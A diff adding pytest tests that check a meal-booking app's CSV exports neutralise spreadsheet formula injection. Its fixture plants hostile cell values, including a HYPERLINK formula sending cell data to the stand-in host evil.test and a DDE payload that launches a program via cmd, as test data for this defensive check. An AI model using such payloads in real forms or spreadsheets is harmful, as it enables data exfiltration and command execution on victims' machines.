@@ -102,3 +102,83 @@ def test_valid_bookings_over_the_limit_still_get_429(client, meal, settings):
     settings.BOOKING_RATE_LIMIT = "2/d"
     statuses = [book(client, meal, email=f"g{n}@example.org").status_code for n in range(3)]
     assert statuses == [302, 302, 429]
+
+
+# --- Finding 4: no spreadsheet formula in any CSV file ------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.test/?x="&A2,"Voir")'
+# OWASP "CSV injection": a cell starting with one of these is read as a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cells(response) -> list[str]:
+    import csv
+    import io
+
+    text = response.content.decode("utf-8-sig")
+    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]
+
+
+@pytest.fixture
+def hostile_rows(db, meal, coordinator):
+    """Every kind of text a CSV file shows, each written by someone hostile."""
+    from meals.models import Contribution
+
+    meal.title = "@SUM(1+1)*cmd|' /C calc'!A0"
+    meal.save(update_fields=["title"])
+    coordinator.first_name, coordinator.last_name = "+1+1", ""
+    coordinator.save(update_fields=["first_name", "last_name"])
+    # The guest of the issue: booked through the public form, offering to help.
+    response = book(Client(), meal, name=FORMULA, email="evil@example.org", help_with="cooking")
+    assert response.status_code == 302
+    Contribution.objects.create(
+        meal=meal,
+        amount="5.00",
+        method="cash",
+        recorded_by=coordinator,
+        voided_at=meal.starts_at,
+        voided_by=coordinator,
+        void_reason="-2+3\tplus",
+    )
+    Contribution.objects.create(meal=meal, amount="2.00", method="card", recorded_by=coordinator)
+    return meal
+
+
+def test_every_csv_export_neutralises_formulas(client, coordinator, hostile_rows):
+    from meals.views.reports import CSV_KINDS
+
+    client.force_login(coordinator)
+    month = {"month": f"{hostile_rows.starts_at:%Y-%m}"}
+    assert set(CSV_KINDS) == {"contributions", "attendance", "volunteers"}, "a new export: give it hostile rows"
+    for kind in CSV_KINDS:
+        response = client.get(reverse("meals:report_csv", args=[kind]), month)
+        assert response.status_code == 200, kind
+        cells = csv_cells(response)
+        dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+        assert not dangerous, (kind, dangerous)
+        # The hostile text is there, kept readable behind the quote (the test is not vacuous).
+        assert any(cell.startswith("'") for cell in cells), (kind, cells)
+    volunteers = csv_cells(client.get(reverse("meals:report_csv", args=["volunteers"]), month))
+    assert "'" + FORMULA in volunteers
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+33 6 12", "'+33 6 12"),
+        ("-5", "'-5"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Odette", "Odette"),
+        ("5,50", "5,50"),
+        ("", ""),
+        (12, "12"),
+        (None, ""),
+    ],
+)
+def test_spreadsheet_cell_prefixes_what_a_spreadsheet_would_evaluate(value, expected):
+    from meals.spreadsheet import cell
+
+    assert cell(value) == expected
